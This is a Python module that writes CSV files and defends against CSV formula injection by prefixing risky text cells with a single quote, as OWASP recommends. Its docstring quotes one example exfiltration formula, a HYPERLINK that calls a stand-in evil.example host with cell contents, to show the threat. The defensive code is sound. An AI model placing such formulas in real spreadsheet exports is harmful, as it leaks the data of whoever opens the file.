"""CSV files that a spreadsheet opens as data: cells that would be formulas are neutralised.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and,
after a leading tab or carriage return, what follows), so a value from data such as
`=HYPERLINK("http://evil.example/?"&A1)` in a rejects file or an export would run when an analyst
opens it. As OWASP recommends (CSV Injection), such a text cell gets a leading single quote, which
spreadsheets read as "text" and do not show. Numbers are written as numbers: `-0.5` stays `-0.5`.
Other text is unchanged, so ring ids, account ids and organisation names round-trip as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Final

__all__ = ["neutralise_formula", "write_csv"]

_FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(cell: object) -> object:
    """`cell` with a single quote in front when it is text a spreadsheet would evaluate; else `cell`."""
    if isinstance(cell, str) and cell.startswith(_FORMULA_STARTS):
        return "'" + cell
    return cell


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write `header` and `rows` to `path` (UTF-8, every cell neutralised, None as empty); rows written."""
    written = 0
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow([neutralise_formula(name) for name in header])
        for row in rows:
            writer.writerow(["" if cell is None else neutralise_formula(cell) for cell in row])
            written += 1
    return written
